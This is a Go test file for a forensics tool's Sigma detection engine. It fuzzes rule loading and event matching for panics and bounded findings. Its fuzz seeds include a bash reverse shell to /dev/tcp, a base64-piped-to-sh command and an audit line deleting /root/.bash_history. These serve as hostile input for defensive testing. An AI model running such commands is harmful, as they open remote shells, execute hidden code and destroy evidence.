package sigma

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/cordon-forensics/cordon/timeline"
)

// FuzzEngine feeds hostile event text (an attacker writes the command
// lines, paths and log lines) to SigmaHQ's rules: nothing panics, and what
// a finding keeps stays bounded.
func FuzzEngine(f *testing.F) {
	set, err := Load(sigmaHQ(f))
	if err != nil {
		f.Fatal(err)
	}
	f.Add("/dev/shm/x", "/dev/shm/x --quiet", "sh -c echo ZWNobyBoaQ== | base64 -d | sh", "type=EXECVE msg=audit(1.2:3): argc=2 a0=\"rm\" a1=\"/root/.bash_history\"", "EXECVE", "rm")
	f.Add("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "sshd", "Nov  2 10:24:55 web01 sshd[77]: Corrupted MAC on input.", "SYSCALL,EXECVE,PATH", "a\x00b")
	f.Fuzz(func(t *testing.T, exe, cmd, parent, original, types, arg string) {
		e := NewEngine(set)
		e.MaxEvidence = 3
		evs := []timeline.Event{
			{Message: cmd, Event: timeline.EventFields{Dataset: "processes", Action: "process-started"},
				Process: &timeline.Process{PID: 7, Executable: exe, CommandLine: cmd, Parent: &timeline.ParentProcess{PID: 1, Executable: parent, CommandLine: parent}}},
			{Message: original, Event: timeline.EventFields{Dataset: "auditd", Action: "process-executed", Original: original},
				Process: &timeline.Process{PID: 7, Executable: exe, CommandLine: cmd, Args: []string{exe, arg, cmd}, Parent: &timeline.ParentProcess{PID: 1}},
				Labels:  map[string]string{"audit.record_types": types, "audit.paths": arg + "\n" + exe, "audit.nametypes": "CREATE\nNORMAL"}},
			{Message: original, Event: timeline.EventFields{Dataset: "syslog", Original: original}, Process: &timeline.Process{Name: "sshd", PID: 77}},
			{Message: "file " + arg, Event: timeline.EventFields{Dataset: "filetimeline", Action: "file-mtime"}, File: &timeline.File{Path: arg}},
		}
		for i := 0; i < 3; i++ {
			for j := range evs {
				e.Add(&evs[j])
			}
		}
		for _, f := range e.Findings() {
			if len(f.Evidence) > 3 || f.Author == "" || len(f.Instances) != 1 {
				t.Fatalf("finding %+v", f)
			}
		}
	})
}

// FuzzLoad compiles hostile rule text: a rule that cannot be made into a
// matcher is a failure with a reason, never a panic.
func FuzzLoad(f *testing.F) {
	seeds, _ := filepath.Glob(filepath.Join("testdata", "rules", "*.yml"))
	for _, s := range seeds {
		b, err := os.ReadFile(s)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	if len(seeds) == 0 {
		f.Fatal("no seed rules in testdata/rules")
	}
	f.Fuzz(func(t *testing.T, rule []byte) {
		set, err := LoadFS(fstest.MapFS{"r.yml": {Data: rule}}, "fuzz")
		if err != nil {
			t.Fatal(err)
		}
		if len(set.Rules)+len(set.Failures) != 1 {
			t.Fatalf("%d rules, %d failures from one file", len(set.Rules), len(set.Failures))
		}
		for _, fl := range set.Failures {
			if strings.TrimSpace(fl.Reason) == "" {
				t.Fatal("a failure without a reason")
			}
		}
		e := NewEngine(set)
		ev := timeline.Event{Message: string(rule), Event: timeline.EventFields{Dataset: "auditd", Action: "process-executed", Original: string(rule)},
			Process: &timeline.Process{PID: 1, Executable: "/bin/sh", CommandLine: string(rule), Args: []string{"sh", string(rule)}},
			Labels:  map[string]string{"audit.record_types": "SYSCALL,EXECVE"}}
		e.Add(&ev)
		e.Findings()
	})
}

// The seed rules read as their names say: the fuzz targets start from
// rules that compile (and one that is refused).
func TestSeedRules(t *testing.T) {
	set, err := Load(filepath.Join("testdata", "rules"))
	if err != nil {
		t.Fatal(err)
	}
	if len(set.Rules) != 2 || set.Applicable() != 2 || len(set.Failures) != 1 || set.Failures[0].File != "aggregation.yml" {
		t.Errorf("%d rules (%d applicable), failures %+v", len(set.Rules), set.Applicable(), set.Failures)
	}
}

func TestDigest(t *testing.T) {
	a, _ := LoadFS(fstest.MapFS{"r.yml": {Data: []byte("title: a")}}, "d")
	b, _ := LoadFS(fstest.MapFS{"r.yml": {Data: []byte("title: a")}}, "d")
	c, _ := LoadFS(fstest.MapFS{"r.yml": {Data: []byte("title: b")}}, "d")
	if a.Digest == "" || a.Digest != b.Digest || a.Digest == c.Digest {
		t.Errorf("digests %s %s %s", a.Digest, b.Digest, c.Digest)
	}
}
